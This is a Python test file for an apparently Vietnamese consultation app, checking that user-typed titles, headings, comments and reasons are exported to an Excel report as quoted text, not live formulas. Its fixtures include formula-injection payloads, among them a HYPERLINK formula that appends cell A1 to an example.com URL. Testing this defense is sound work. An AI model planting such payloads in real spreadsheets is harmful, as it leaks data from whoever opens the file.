"""Text typed by people (comments, reasons, headings, titles) lands in the consultation's
Excel report as text, never as a live formula."""

import io

from openpyxl import load_workbook

from nghedan.consultations import reports
from nghedan.consultations.models import Comment, Consultation, Section
from nghedan.consultations.tests.test_replies import comment_on, consultation_of

COMMENT = '=HYPERLINK("http://example.com/?"&A1,"Xem chi tiết")'
HEADING = "+SUM(1,2) Điều 1"
REASON = "@SUM(A1:A9)"
TITLE = "-2+3 Dự thảo quy định"


def test_formula_text_in_the_consultation_report_stays_text(world):
    # Given a consultation whose title, a section, a comment and a reason start like formulas
    consultation = consultation_of(world, status="closed")
    Consultation.objects.filter(pk=consultation.pk).update(title=TITLE)
    consultation.refresh_from_db()
    section = Section.objects.create(
        consultation=consultation, order=1, level="article", heading=HEADING
    )
    comment = comment_on(consultation, world.citizen, COMMENT, section=section)
    Comment.objects.filter(pk=comment.pk).update(
        disposition="not_accepted", disposition_reason=REASON
    )

    # When the Excel report is made and read back
    book = load_workbook(io.BytesIO(reports.report_xlsx(consultation)))

    # Then no cell is a formula, and each of them reads as the text typed, quoted
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    table = book["Tổng hợp"]
    assert [table["B2"].value, table["C2"].value, table["F2"].value] == [
        "'" + HEADING,
        "'" + COMMENT,
        "'" + REASON,
    ]
    counts = {row[0]: row[1] for row in book["Số liệu"].iter_rows(values_only=True) if row[0]}
    assert counts["Dự thảo"] == "'" + TITLE
    assert counts["Số ý kiến"] == 1  # numbers stay numbers
